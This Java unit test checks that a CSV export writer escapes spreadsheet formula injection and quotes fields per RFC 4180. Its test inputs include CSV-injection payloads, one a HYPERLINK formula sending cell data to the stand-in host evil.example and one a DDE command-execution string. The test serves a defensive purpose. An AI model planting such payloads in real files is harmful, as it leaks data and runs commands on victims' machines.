package ng.bills.web.api.listing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvLinesTest {

  private static final List<Column<String>> TEXT =
      List.of(Column.text("text", t -> t), Column.text("other", t -> "x"));

  private static String written(String text) {
    StringWriter out = new StringWriter();
    CsvLines<String> lines = new CsvLines<>(out, TEXT);
    lines.row(text);
    lines.end(1, Instant.EPOCH, Optional.empty());
    String all = out.toString();
    return all.substring("text,other\r\n".length(), all.length() - "END,1\r\n".length());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+2348031234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uFF1D1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF201"
      })
  void givenTextThatASpreadsheetWouldWorkOut_whenWritten_thenItIsAText(String text) {
    String line = written(text);
    String field = line.startsWith("\"") ? line.substring(1).replace("\"\"", "\"") : line;
    assertThat(field).startsWith("'" + text);
  }

  @Test
  void givenQuotesCommasAndBreaks_whenWritten_thenAsRfc4180Says() {
    assertThat(written("plain 1-2=3")).isEqualTo("plain 1-2=3,x\r\n");
    assertThat(written("a,b")).isEqualTo("\"a,b\",x\r\n");
    assertThat(written("say \"no\"")).isEqualTo("\"say \"\"no\"\"\",x\r\n");
    assertThat(written("a\r\nb")).isEqualTo("\"a\r\nb\",x\r\n");
    assertThat(written("=a,\"b\"")).isEqualTo("\"'=a,\"\"b\"\"\",x\r\n");
  }

  @Test
  void givenNumbers_whenWritten_thenTheyStayNumbers() {
    StringWriter out = new StringWriter();
    CsvLines<BigDecimal> lines =
        new CsvLines<>(
            out,
            List.of(
                Column.number("amount", n -> n), Column.optional("none", n -> Optional.empty())));
    lines.row(new BigDecimal("-5030.00"));
    lines.row(new BigDecimal("1E+3"));
    lines.row(new BigDecimal("0.0000001"));
    lines.end(3, Instant.EPOCH, Optional.empty());
    assertThat(out.toString())
        .isEqualTo("amount,none\r\n-5030.00,\r\n1000,\r\n0.0000001,\r\nEND,3\r\n");
  }
}
